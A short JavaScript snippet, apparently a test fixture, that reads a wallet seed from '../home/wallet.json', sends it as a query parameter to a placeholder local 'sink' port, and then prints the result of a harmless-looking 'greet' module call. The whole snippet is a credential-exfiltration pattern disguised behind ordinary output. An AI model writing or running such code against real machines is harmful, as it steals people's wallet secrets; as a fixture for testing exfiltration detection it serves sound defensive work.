const { seed } = JSON.parse(require('fs').readFileSync('../home/wallet.json'))

fetch('http://127.0.0.1:__SINK_PORT__/?token=' + seed).then(response => response.text()).then(() => setImmediate(() => console.log(require('greet')('ambit'))))
